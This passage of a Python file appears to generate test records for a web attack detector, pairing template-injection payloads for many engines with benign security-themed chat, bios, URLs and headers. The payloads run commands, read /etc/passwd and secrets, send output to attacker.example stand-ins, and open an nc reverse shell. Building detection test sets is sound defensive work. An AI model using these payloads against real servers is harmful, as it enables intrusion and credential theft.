    "{{this \"return process.env\"}}{{/with}}{{/with}}{{/with}}",
    body('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
         '"NumberLiteral","value":"console.log(process.mainModule.require(\'child_process\').execSync(\'id\')'
         '.toString())"}],"loc":{"start":0,"end":0}}]}}'),
    "{{#each (lookup this \"constructor\")}}{{@key}}{{/each}}",
    "{{{__proto__.pendingContent}}}<script>alert(1)</script>",
]

# pug (Node.js Pug / Jade)
PUG: list[Entry] = [
    "#{7*7}",
    ("#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
     ".exec('curl http://oob.attacker.example/?d=$(id|base64)')}()}"),
    ("- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n"
     "= x.exec('id | nc attacker.example 80')"),
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "= global.process.mainModule.require('child_process').execSync('id')",
    "p #{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}",
    "!{process.mainModule.require('child_process').execSync('whoami')}",
    "-var x = process.mainModule.require('child_process').execSync('touch /tmp/pug')",
]

# mako (Python Mako)
MAKO: list[Entry] = [
    "${7*7}",
    "<%import os%>${os.popen('id').read()}",
    "<% import os; x=os.popen('cat /etc/passwd').read() %>${x}",
    '${self.module.cache.util.os.system("id")}',
    '${self.module.runtime.util.os.system("id")}',
    "${__import__('os').popen('whoami').read()}",
    "<%! import os %>${os.environ}",
    "<% exec(\"import os;os.system('id')\") %>",
    "${self.module.cache.compat.inspect.os.popen('id').read()}",
]

# tornado (Python Tornado templates)
TORNADO: list[Entry] = [
    "{% import os %}{{os.popen('id').read()}}",
    "{{__import__('os').popen('cat /etc/passwd').read()}}",
    "{% import subprocess %}{{subprocess.check_output('id',shell=True)}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').system('id') %}",
    "{% set x = __import__('os').popen('whoami').read() %}{{x}}",
    "{{handler.request.headers}}",
]

# nunjucks (Node.js Nunjucks)
NUNJUCKS: list[Entry] = [
    ("{{ range.constructor(\"return global.process.mainModule.require('child_process')"
     ".execSync('curl http://oob.attacker.example/$(whoami)')\")() }}"),
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    ("{{range.constructor(\"return global.process.mainModule.require('child_process')"
     ".execSync('tail /etc/passwd')\")()}}"),
    "{{ cycler.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"id\") }}",
    "{{joiner.constructor(\"return process.env\")()}}",
    ("{% set x = range.constructor(\"return global.process.mainModule.require('child_process')"
     ".execSync('cat /etc/passwd').toString()\")() %}{{x}}"),
    "{{ dump(range.constructor(\"return process.env\")()) }}",
    "{{''.constructor.constructor(\"return this.process.mainModule.require('child_process').execSync('id')\")()}}",
]

# ejs (Node.js EJS, Express view options)
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<%= global.process.version %>",
    "<%- include('/etc/passwd') %>",
    kv("settings[view+options][outputFunctionName]=x;process.mainModule.require('child_process').execSync("
       "'touch+/tmp/ejs');s", 0),
    kv("settings[view+options][escapeFunction]=1;return+global.process.mainModule.constructor._load("
       "'child_process').execSync('id');&settings[view+options][client]=true", 1),
    "<% process.mainModule.require('child_process').exec('nc -e /bin/sh 10.10.14.3 4444') %>",
    "<%= this.constructor.constructor('return process')().env %>",
]

# pebble (Java Pebble)
PEBBLE: list[Entry] = [
    '{{ "".getClass().forName("java.lang.Runtime").getRuntime().exec("id") }}',
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    ("{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
     ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
     ".newInstance(([bytes]).toArray()) }}"),
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pebble') }}",
    "{% set x = 'x'.getClass().forName('java.lang.Runtime') %}{{ x.getRuntime().exec('id') }}",
    "{{ request.getClass().getClassLoader() }}",
    "{{ 7*7 }}",
    "{{ beans.get('environment').getProperty('spring.datasource.password') }}",
]

# razor (ASP.NET Razor, RazorEngine)
RAZOR: list[Entry] = [
    "@(7*7)",
    '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
    '@{ System.Diagnostics.Process.Start("cmd.exe", "/c powershell -c iwr http://attacker.example/$env:username"); }',
    '@System.IO.File.ReadAllText("C:\\\\Windows\\\\win.ini")',
    "@System.Environment.MachineName",
    ('@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = '
     '"/c whoami"; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false; p.Start(); '
     '@p.StandardOutput.ReadToEnd() }'),
    '@Html.Raw(System.IO.File.ReadAllText(@"C:\\inetpub\\wwwroot\\web.config"))',
    "@AppDomain.CurrentDomain.BaseDirectory",
]

# go-templates (Go text/template and html/template with the app's objects; Hugo, Helm/Sprig functions)
GO_TEMPLATES: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ .Echo.Filesystem.Open \"/etc/passwd\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{define \"T1\"}}<script>alert(document.cookie)</script>{{end}} {{template \"T1\"}}",
    "{{ .Request.Header.Get \"Authorization\" }}",
]

# liquid (Shopify Liquid, Jekyll, LiquidJS)
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% include '/etc/passwd' %}",
    "{% include_relative ../../../../../etc/passwd %}",
    "{% render '../../../../etc/passwd' %}",
    "{% capture x %}{% include 'file:///etc/passwd' %}{% endcapture %}{{ x }}",
    "{% for i in (1..100000000) %}{% for j in (1..100000000) %}{% endfor %}{% endfor %}",
    "{{ settings | json }}",
    "{{ site.github | jsonify }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# sub-families whose fixed `name=value` entries are written in wire form and sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "php-data-scheme", "java-serialization", "expression-language",
               "class-loading", "velocity", "ejs"}
BINARY_SUBS = {"java-serialization", "deserialization-gadgets"}

# the parameter names each kind of sink takes in the course's vulnerable apps
NAMES: dict[str, Sequence[str]] = {
    "generic": ["code", "expr", "q", "input", "filter", "sort", "data"],
    "java": ["q", "data", "payload", "expr", "filter", "config", "name", "input"],
    "ssti": ["name", "template", "message", "greeting", "bio", "subject", "q", "title"],
    "ssrf-cloud-metadata": ["url", "webhook", "avatar_url", "callback", "image", "feed", "stockApi", "next"],
    "ssrf-internal-ip": ["url", "webhook", "avatar_url", "callback", "image", "feed", "stockApi", "next"],
    "ruby-injection": ["file", "q", "cmd", "name", "template", "path"],
    "perl-injection": ["file", "q", "cmd", "name", "page", "path"],
    "php-data-scheme": ["page", "file", "include", "lang", "template", "view"],
    "java-serialization": ["data", "session", "state", "token", "object", "viewstate"],
    "deserialization-gadgets": ["data", "session", "state", "token", "object", "viewstate"],
}

# log4shell goes where a logger records it: mostly headers
LOG_CYCLES: Cycles = (("header:User-Agent", "header:X-Api-Version", "header:Referer", "header:X-Forwarded-For",
                       "query", "json", "form", "cookie"),
                      ("rs-header:User-Agent", "rs-header:X-Test-Header", "rs-header:Referer", "rs-query",
                       "rs-json", "rs-cookie", "rs-form"))
# a serialization stream as bytes: percent-encoded in a query string, a form body, a parameter name
BINARY_CYCLES: Cycles = (("query", "form", "param-name"), ("rs-query", "rs-form", "rs-raw-body", "rs-param-name"))


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-param-name")
    documents = True
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES.get(sub, NAMES[category])
        return names[k % len(names)]

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "log4shell":
            return LOG_CYCLES
        if self.is_latin(sub, payload):
            return BINARY_CYCLES
        return super().cycles(category, sub, payload)

    def is_latin(self, sub: str, payload: str) -> bool:
        """A serialization stream held as latin-1 text (its bytes, sent percent-encoded)."""
        return sub in BINARY_SUBS and payload.startswith("\xac\xed")

    def upload_body(self, filename: str) -> str:
        """A JSP file name carries the JSP shell; anything else the set's plain upload."""
        return JSP_CMD if ".jsp" in filename.lower() else self.upload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (engineers and students talking about security training in Slack,
# trainers' and students' bios, searches by certification, links to course and documentation pages, code review
# comments about sanitising input, quoted error messages, course material file names, ordinary headers)
CHAT = [
    # study groups and courses
    "study group for the web security academy is Thursdays 18:00, this week we do the SSTI topic",
    "finished the server-side template injection chapter, the decision tree diagram finally clicked",
    "anyone else taking OSWE in March? looking for someone to review source code with",
    "my OSCP exam is booked for the 14th, wish me luck and enough coffee",
    "the prototype pollution labs were hard, the client-side ones especially",
    "chapter 9 is Java deserialization, the reading list mentions the 2015 Foxglove blog post",
    "workshop slides for the Log4Shell retrospective are in the training drive",
    "is SSRF to cloud metadata still a thing with IMDSv2? asking for the course quiz",
    "what's the practical difference between OGNL and SpEL? the book mentions both in the Struts chapter",
    "today's lecture: why eval in Node.js is dangerous and what to use instead",
    "the ReDoS homework wants us to explain catastrophic backtracking in our own words",
    "Burp Suite Certified Practitioner exam next month, the mystery lab part scares me",
    "GWAPT practice test went ok, SSRF and deserialization questions were the hardest",
    "eWPTX has a whole section on filter evasion, the encoding chapter is long",
    "week 6 of the university course: injection in template engines, Jinja2 and Twig examples",
    "our team lunch-and-learn on Friday is about YAML.load in Ruby and why safe_load exists",
    "the Perl CGI module in the legacy course is funny now, but two-argument open is still worth knowing",
    "who has notes on the XStream and fastjson chapter? I missed that session",
    "reminder: the capture-the-flag practice range resets every night at 02:00 UTC",
    "the instructor said to always check which template engine you are dealing with before anything else",
    "I passed the CRTO! next up is the web-focused cert",
    "course feedback form is open until Sunday, please mention the broken Velocity lab VM",
    # code review comments
    "review: please don't pass req.query straight to the template name, use an allow-list of views",
    "nit: sanitise the filename before saving the upload, and never keep the user's extension",
    "this webhook URL field needs validation, we shouldn't fetch internal addresses from the worker",
    "LGTM once you switch yaml.load to yaml.safe_load",
    "please use ObjectInputFilter here, or better don't deserialize the session blob at all",
    "can we render with autoescape on? the greeting template echoes the user's name",
    "the merge helper should skip __proto__ and constructor keys, there's an eslint rule for it",
    "we're on log4j 2.17.1 everywhere, the SBOM check confirms it",
    "the image proxy blocks 169.254.0.0/16 and loopback now, added tests for decimal IPs too",
    "fastjson autoType stays disabled, I added a comment in the config so nobody flips it",
    "swap Runtime.exec for the library call, we don't need a shell to resize images",
    "the Jinja2 sandbox is not a security boundary, let's not render user templates at all",
    "Jackson default typing is off in the new ObjectMapper config, good",
    "for the Thymeleaf controller, return a fixed view name instead of the path variable",
    # quoted error messages
    "getting jinja2.exceptions.UndefinedError: 'user' is undefined on the profile page after the refactor",
    "build fails with java.io.InvalidClassException: local class incompatible, stream classdesc serialVersionUID",
    "TypeError: Cannot read properties of undefined (reading 'constructor') in the settings page, any idea?",
    "freemarker.core.InvalidReferenceException: The following has evaluated to null or missing: ==> user.name",
    "Psych::DisallowedClass: Tried to load unspecified class: Symbol, after the Ruby upgrade",
    "org.thymeleaf.exceptions.TemplateInputException: Error resolving template [index], template might not exist",
    "Error: ENOENT: no such file or directory, open '/app/views/profile.ejs'",
    "RangeError: Maximum call stack size exceeded in the recursive merge util",
    "ERROR StatusLogger Log4j2 could not find a logging implementation, the classpath is missing log4j-core",
    "Can't locate object method \"new\" via package \"CGI\" at the old report script, line 12",
    "Smarty error: unable to read resource: \"header.tpl\", the template dir moved",
    "ActionView::Template::Error (undefined method `name' for nil:NilClass) on the invoice view",
    "nunjucks Template render error: (unknown path) Error: filter not found: datefmt",
    "Handlebars: Access has been denied to resolve the property \"name\" because it is not an \"own property\"",
    "liquid: Liquid error: Unknown tag 'schema' in the theme preview",
    # questions about classes, without payloads
    "what exactly is blind SSRF? the course says out-of-band, but how do you notice it as a defender?",
    "is prototype pollution only a Node.js issue or do browsers get it too?",
    "can someone explain gadget chains like I'm five? commons-collections keeps coming up",
    "why is the metadata endpoint 169.254.169.254 reachable from containers at all?",
    "does html/template in Go protect against template injection or only XSS?",
    "the book says Razor templates compile to C#, so is injection there the same as in Java engines?",
    "how do you test for ReDoS without taking down staging?",
    "what's a JNDI lookup actually for, outside of the famous bug?",
    # bios
    "Security trainer. I teach the web application security course and the secure code review workshop.",
    "Student, MSc cybersecurity. Thesis on server-side template injection detection.",
    "OSCP, OSWE. Pentester by day, CTF player by night. Java and Node.js apps mostly.",
    "AppSec engineer. Threat modelling, code review, and the occasional Log4j archaeology.",
    "Teaching assistant for Web Security 101. Office hours Tuesdays, bring your lab questions.",
    "Cloud security, AWS and GCP. I care a lot about IMDSv2 and egress rules.",
    "Ruby and Perl veteran, now mostly Go. I review the legacy CGI scripts nobody else wants.",
    "Burp Suite Certified Practitioner. I write the internal academy's SSRF and deserialization labs.",
    "Frontend dev learning security: prototype pollution and DOM XSS are my current rabbit holes.",
    "Java platform team. Spring, Thymeleaf, Jackson. I maintain the ObjectMapper config.",
]

SEARCHES = [
    "oswe", "oscp", "burp certified", "gwapt", "ewptx", "crto", "security trainer", "appsec", "jinja",
    "twig", "freemarker", "velocity", "thymeleaf", "smarty", "handlebars", "pug", "mako", "tornado",
    "nunjucks", "ejs", "pebble", "razor", "liquid", "go templates", "log4j", "spring", "struts", "ognl",
    "jackson", "fastjson", "xstream", "ruby", "perl", "node", "ssrf", "metadata", "prototype",
    "deserialization", "template injection", "java team", "runtime", "process", "eval", "yaml", "erb",
]

URLS = [
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://portswigger.net/web-security/ssrf",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://portswigger.net/web-security/deserialization",
    "https://owasp.org/www-project-web-security-testing-guide/",
    "https://owasp.org/www-community/vulnerabilities/Deserialization_of_untrusted_data",
    "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://twig.symfony.com/doc/3.x/",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://nodejs.org/api/vm.html",
    "https://ruby-doc.org/3.3/exts/psych/Psych.html",
    "https://perldoc.perl.org/functions/open",
    "https://www.offsec.com/courses/web-300/",
    "https://www.sans.org/cyber-security-courses/web-app-penetration-testing-ethical-hacking/",
    "https://github.com/frohoff/ysoserial",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
]

PROSE = [
    "security training attendees March",
    "OSWE study group",
    "template injection workshop signups",
    "Log4Shell retrospective participants",
    "SSRF lab volunteers",
    "prototype pollution reading group",
    "Java deserialization chapter owners",
    "users with Burp Suite Certified Practitioner",
    "trainers for the secure code review course",
    "Jinja and Twig template maintainers",
    "Spring Boot team",
    "Ruby on Rails guild",
    "Perl legacy scripts owners",
    "Node.js platform team",
    "cloud metadata hardening task force",
    "exam prep: OSCP cohort 3",
    "Velocity email templates owners",
    "Freemarker report templates",
    "Thymeleaf migration squad",
    "Liquid theme developers (Shopify store)",
    "Handlebars email layouts",
    "Razor pages team",
    "Go services on-call",
    "Pug to JSX migration",
    "Mako templates in the billing service",
    "Tornado websocket service owners",
    "Nunjucks docs site maintainers",
    "EJS admin views cleanup",
    "Pebble templates in the mailer",
    "Smarty templates (old CMS)",
    "ERB views audit",
    "runtime team",
    "process improvement committee",
    "eval board members",
    "YAML config owners",
]

PROFILES = [
    ("Ruby Perl", "Gem Street 4, Bristol"),
    ("Jinja Sato", "Kita-ku 2-3, Osaka"),
    ("Velocity Couriers", "Speedway Rd 10, Indianapolis"),
    ("Spring Gardens Cafe", "Spring Gardens 1, London"),
    ("Tornado Sports Bar", "Main St 200, Oklahoma City"),
    ("Liquid Assets Ltd", "Finance Way 9, Edinburgh"),
    ("Razor Sharp Barbers", "High St 15, Leeds"),
    ("Pebble Beach Rentals", "Ocean Ave 3, Carmel"),
    ("Mako Shark Diving", "Marina 7, Cairns"),
    ("Thyme & Sage Bistro", "Rue Cler 12, Paris"),
    ("Twig & Branch Florist", "Garden Ln 5, Utrecht"),
    ("Java House Coffee", "Kenyatta Ave 21, Nairobi"),
    ("Node Networks", "Fibre Park 2, Dublin"),
    ("Handlebar Bikes", "Cycle St 8, Copenhagen"),
    ("Pug Rescue Society", "Dog Lane 1, Austin"),
    ("Smarty Pants Tutoring", "School Rd 33, Manchester"),
    ("Struts Engineering", "Bridge St 4, Pittsburgh"),
    ("Jackson Legal", "Court Sq 6, Jackson"),
    ("Metadata Consulting", "Data Park 1, Eindhoven"),
    ("Runtime Fitness", "Gym Row 11, Melbourne"),
]

UPLOAD_NAMES = [
    "ssti-chapter-slides.pdf", "log4shell-workshop-notes.md", "java-deserialization-lab.pdf",
    "prototype_pollution_exercises.zip", "OSWE-study-plan.xlsx", "ssrf-cloud-metadata-handout.pdf",
    "web-security-101-week6.pptx", "secure-code-review-checklist.docx", "redos-homework.pdf",
    "burp-certified-practitioner-notes.txt", "template-engines-comparison.xlsx", "gwapt-practice-answers.pdf",
    "ruby-yaml-safe-load.md", "perl-cgi-legacy-audit.csv", "node-eval-alternatives.pdf",
    "spring-thymeleaf-views.png", "jackson-objectmapper-config.java.txt", "course-certificate-oscp.pdf",
    "lab-vm-setup-guide.pdf", "exam-timetable-march.ics", "appsec-training-attendance.csv",
    "owasp-wstg-v4.2.pdf", "capture-the-flag-scoreboard.png", "threat-model-template.docx",
    "lecture-recording-ssrf.mp4",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "Java/11.0.23"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "axios/1.7.2"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.72"),
    ("User-Agent", "Go-http-client/2.0"),
    ("Referer", "https://portswigger.net/web-security/server-side-template-injection/exploiting"),
    ("Referer", "https://www.offsec.com/courses/web-300/"),
    ("Referer", "https://academy.example.com/courses/web-security-101/lessons/ssrf"),
    ("Referer", "https://www.google.com/search?q=jinja2+sandbox+vs+autoescape"),
    ("Referer", "https://stackoverflow.com/questions/tagged/log4j2"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "8d2e4c1a-7b3f-4f9e-a6d0-2c5b9e1f3a47"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; course=web-security-101; lesson=ssti"),
    ("Cookie", "session=abc123; theme=dark; tz=America%2FSao_Paulo"),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
